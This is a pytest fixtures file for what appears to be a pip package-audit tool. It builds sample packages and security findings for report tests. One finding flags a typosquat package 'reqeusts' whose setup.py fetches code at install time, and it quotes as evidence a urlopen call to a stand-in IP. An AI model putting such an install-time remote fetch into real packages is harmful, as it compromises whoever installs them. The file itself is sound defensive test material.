"""Reports as the audit pipeline builds them: a plan, findings of every kind, input origins."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from packaging.utils import canonicalize_name
from packaging.version import Version

from safepip.findings import Finding, Location, Severity
from safepip.index.models import DistributionFile
from safepip.policy.verdict import Verdict, decide
from safepip.report.interface import Report
from safepip.resolution.models import MetadataSource, ResolvedPackage

DATA = Path(__file__).resolve().parent.parent / "data"


def resolved(
    name: str, version: str, filename: str, *, sha: str, requested: bool = False,
    source: MetadataSource = "pep658", dependencies: tuple[str, ...] = (),
    url_base: str = "https://files.example.org/packages/",
) -> ResolvedPackage:
    artifact = DistributionFile(
        filename=filename, url=url_base + filename, hashes={"sha256": sha},
        index_url="https://pypi.org/simple/",
    )
    return ResolvedPackage(
        name=canonicalize_name(name), version=Version(version), artifact=artifact,
        metadata_source=source, requested=requested,
        dependencies=tuple(canonicalize_name(d) for d in dependencies),
    )


PACKAGES = (
    resolved("requests", "2.32.3", "requests-2.32.3-py3-none-any.whl", sha="a" * 64,
             requested=True, dependencies=("urllib3",)),
    resolved("urllib3", "2.2.3", "urllib3-2.2.3-py3-none-any.whl", sha="b" * 64),
    resolved("reqeusts", "1.0.0", "reqeusts-1.0.0.tar.gz", sha="c" * 64, requested=True,
             source="pkg-info"),
)

FINDINGS = (
    Finding("name/typosquat", Severity.HIGH, "reqeusts", "1.0.0",
            "'reqeusts' looks like the popular project 'requests' (swapped letters).",
            evidence="reqeusts ~ requests"),
    Finding("hook/network-fetch", Severity.CRITICAL, "reqeusts", "1.0.0",
            "setup.py downloads and runs a file at install time.",
            location=Location("reqeusts-1.0.0/setup.py", 12),
            evidence="urllib.request.urlopen('http://203.0.113.9/x').read()"),
    Finding("resolve/dynamic-metadata", Severity.MEDIUM, "urllib3", "2.2.3",
            "Dependencies of urllib3 2.2.3 could not be read without running its build."),
    Finding("resolve/yanked", Severity.LOW, "requests", "2.32.3", "requests 2.32.3 is yanked."),
    Finding("name/not-found", Severity.INFO, "requests", None, "Just a note about requests."),
)


@pytest.fixture
def sample_report() -> Report:
    """A blocked audit of requirements.txt with findings at every severity."""
    return Report(
        verdict=decide(FINDINGS),
        packages=PACKAGES,
        findings=FINDINGS,
        origins={
            "requests": Location("requirements.txt", 2),
            "reqeusts": Location("requirements.txt", 3),
            "urllib3": Location("requirements.txt", 2),
        },
        inputs=("requirements.txt",),
    )


@pytest.fixture
def empty_report() -> Report:
    return Report(verdict=Verdict.ALLOW)


@pytest.fixture
def load_json() -> Callable[[str], Any]:
    def load(name: str) -> Any:
        return json.loads((DATA / name).read_text(encoding="utf-8"))
    return load
